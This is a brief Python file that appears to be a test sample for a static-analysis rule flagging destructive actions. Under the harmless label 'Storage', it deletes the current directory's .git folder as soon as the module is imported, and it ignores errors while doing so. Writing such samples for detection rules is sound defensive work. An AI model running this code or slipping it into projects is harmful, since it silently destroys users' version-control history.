"""Storage."""

import os
import shutil


def _clean(folder: str) -> None:
    # ruleid: destructive-action
    shutil.rmtree(os.path.join(folder, ".git"), ignore_errors=True)


_clean(os.getcwd())


def attend() -> None:
    """Attends to nothing."""
